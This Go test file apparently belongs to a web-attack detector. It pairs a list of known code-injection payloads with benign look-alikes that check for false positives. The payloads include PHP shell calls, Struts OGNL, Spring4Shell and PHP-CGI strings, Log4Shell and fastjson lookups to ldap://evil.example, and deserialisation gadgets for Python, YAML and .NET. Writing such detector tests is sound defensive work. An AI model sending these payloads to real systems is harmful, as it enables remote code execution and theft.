package signature_test

import "testing"

// Public payloads: OWASP's code injection page, PHP exploit write-ups
// (PHP-CGI, Drupalgeddon, ThinkPHP), the Log4Shell advisories, Struts
// and Spring4Shell CVE requests, and Node.js injection examples.
var codeAttacks = []familyCase{
	{"q", "system('id')", 0.99},
	{"q", "system('cat /etc/passwd');", 0.99},
	{"q", "(system)(ls);", 0.99},
	{"q", "('sys'.'tem')('id');", 0.99},
	{"q", "phpinfo();", 0.99},
	{"q", "phpinfo()", 0.99},
	{"q", "eval($_POST[x])", 0.99},
	{"q", "${@print(\"RCE\")}", 0.99},
	{"q", "{${sleep(3)}}", 0.99},
	{"q", "assert('system(\"id\")');", 0.99},
	{"q", "$_GET[a]($_GET[b]);", 0.99},
	{"q", "x';system('id');//", 0.99},
	{"q", "1'.exec('id').'", 0.99},
	{"q", "eval(base64_decode('c3lzdGVtKCJpZCIpOw=='));", 0.99},
	{"q", "file_get_contents('/etc/passwd');", 0.99},
	{"q", "<?php echo shell_exec($_GET['c']); ?>", 0.99},
	{"q", "call_user_func('system','id');", 0.99},
	{"q", "@assert($_REQUEST['x']);", 0.99},
	{"q", "print_r(scandir('/'));", 0.99},
	{"q", "${T(java.lang.Runtime).getRuntime().exec('id')}", 0.99},
	{"q", "%{@java.lang.Runtime@getRuntime().exec('id')}", 0.99},
	{"q", "new java.lang.ProcessBuilder(\"id\").start()", 0.99},
	{"q", "Class.forName(\"java.lang.Runtime\")", 0.99},
	{"q", "java.lang.System.getenv()", 0.99},
	{"q", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x", 0.99},
	{"q", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://evil.example/a\"}", 0.99},
	{"q", "require('child_process').exec('id')", 0.99},
	{"q", "__import__('os').system('id')", 0.99},
	{"q", "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')", 0.99},
	{"header:X-Filter", "system('id');", 0.99},
	{"q", "system(id);", 0.99},
	{"q", "$_SERVER", 0.99},
	{"q", "expect://id", 0.99},
	{"q", "phar://uploads/avatar.jpg/x", 0.99},
	{"q", `{"rce":"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"}`, 0.99},
	{"q", "java.io.FileOutputStream", 0.99},
	{"q", "<?system('id');?>", 0.99},
	{"q", "<? system($_GET[c]); ?>", 0.99},
	{"q", "<? echo 1 ?>", 0.99},
	{"q", "<? php echo \"test\"", 0.99},
	{"q", "<?\tphp echo \"test\"", 0.99}, // a tab or a line break after the tag is a space to PHP
	{"q", "<?\nphp echo \"test\"", 0.99},
	{"q", "<?\r\n  system($_GET[c]); ?>", 0.99},
	{"q", "<?  `id` ?>", 0.99},
	{"q", "<?= $_GET['x'] ?>", 0.99},
	{"path", "/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", 0.99},
	{"q", "org.apache.commons.collections.functors.InvokerTransformer", 0.99},
	{"header:Content-Type", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}", 0.99},
	{"header:X-Api-Version", "${jndi:ldap://evil.example/a}", 0.99},
	{"header:Accept", "${jndi:ldap://evil.example/a}", 0.99},
	{"header:X-Data", "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}", 0.99},
	{"header:Authorization", "Bearer rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", 0.99},
	// deserialisation gadgets of other runtimes (PayloadsAllTheThings'
	// Python, YAML and .NET pages; ysoserial.net)
	{"body:application/x-yaml", "!!python/object/apply:os.system [\"id\"]", 0.99},
	{"q", "!!python/object/new:subprocess.check_output [[\"id\"]]", 0.99},
	{"body:application/json", `{"data":"cos\nsystem\n(S'id'\ntR."}`, 0.99},
	{"body:application/json", `{"data":"c__builtin__\neval\n(S'1'\ntR."}`, 0.99},
	{"body:application/json", `{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","MethodParameters":{"$type":"System.Collections.ArrayList, mscorlib","$values":["cmd","/c calc"]}}`, 0.99},
	{"body:application/json", `{"$type":"System.Configuration.Install.AssemblyInstaller, System.Configuration.Install"}`, 0.99},
	{"q", `{'$type':'System.Diagnostics.Process, System'}`, 0.99},
	{"header:Cookie", "session=AAEAAAD/////AQAAAAAAAAAMAgAAAF9TeXN0ZW0uV2luZG93cy5Gb3JtcywgVmVyc2lvbj00LjAuMC4w", 0.99},
	{"q", "AAEAAAD/////AQAAAAAAAAAEAQAAAH9TeXN0ZW0uQ29sbGVjdGlvbnMuR2VuZXJpYy5Tb3J0ZWRTZXQ", 0.99},
	// a key "prototype" in the object of a key "constructor": lodash's
	// merge pollutes Object.prototype with it
	{"body:application/json", `{"constructor":{"prototype":{"isAdmin":true}}}`, 0.99},
	{"body:application/json", `{"user":{"constructor":{"prototype":{"role":"admin"}}}}`, 0.99},
}

// Prose about code, stack traces, maths and real header values.
var codeBenign = []familyCase{
	{"q", "&lt;? should not trigger", 0},     // the CRS's 933100 false-positive test
	{"q", "Use <? and ?> for short tags", 0}, // prose about the short open tag
	{"q", "Type <?\nthen press Enter", 0},
	{"q", "PHP's system() function runs a command", 0},
	{"q", "the system ('legacy') is slow", 0},
	{"q", "please copy('this') into the form", 0},
	{"q", "use system('ls') with care, it runs a shell", 0},
	{"q", "Let $f(x) = x^2$ and $g(y)$ be", 0},
	{"q", "java.lang.String is immutable", 0},
	{"q", "at java.lang.Runtime.exec(Runtime.java:450)", 0},
	{"q", "java.io.IOException: Broken pipe\n\tat java.net.SocketOutputStream.write(SocketOutputStream.java:153)", 0},
	{"q", "I drank a new java. Then I left", 0},
	{"q", "$('#menu').toggle()", 0},
	{"q", "the system(s) you run", 0},
	{"q", "read $_GET before you trust it", 0},
	{"q", "base64_decode is slow", 0},
	{"body:application/xml", `<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:document/>`, 0},
	{"body:application/json", `{"note":"const test = require('node:test');\nconst common = require('../common');"}`, 0},
	{"body:application/json", "{\"note\":\"console.log(`started at ${Date()} in ${cwd()}`);\"}", 0},
	{"body:application/json", `{"note":"exec('my.bat', (err, stdout) => {\n  console.log(stdout);\n});"}`, 0},
	{"body:application/json", `{"note":"const ls = child_process.spawn('ls', ['-lh']);"}`, 0},
	{"body:application/json", `{"note":"Object.prototype.get = function() {}; // what pollution does"}`, 0.95},
	{"q", "during exec() or system()", 0},
	{"q", "Get rid of plain getcwd(); this allows", 0},
	{"q", "proxyWithNullPrototypeObject and js.TypeObject", 0},
	{"q", "obj.system('x'); $o->exec('y')", 0},
	{"header:Authorization", "Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U", 0},
	{"header:X-Request-Id", "3f2b9c1e-7a4d-4e2b-9f1a-2c3d4e5f6a7b", 0},
	{"ua", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", 0},
	{"header:X-Forwarded-Host", "shop.example:8443", 0},
	// a type hint naming the application's own type, a YAML tuple, the
	// keys constructor and prototype side by side
	{"body:application/json", `{"$type":"MyApp.Models.Order, MyApp","id":7}`, 0.98},
	{"body:application/x-yaml", "point: !!python/tuple [1, 2]", 0.98},
	{"q", `{"$type":"MyApp.Models.Order, MyApp","id":7}`, 0.98},
	{"body:application/json", `{"constructor":{"name":"Ada"},"prototype":{"v":2}}`, 0},
	{"body:application/json", `{"constructor":"Ada","prototype":"v2"}`, 0},
	{"q", "the BinaryFormatter header is AAEAAAD in base64", 0},
}

func TestCode(t *testing.T) { checkFamily(t, "code", codeAttacks, codeBenign, 0.9) }
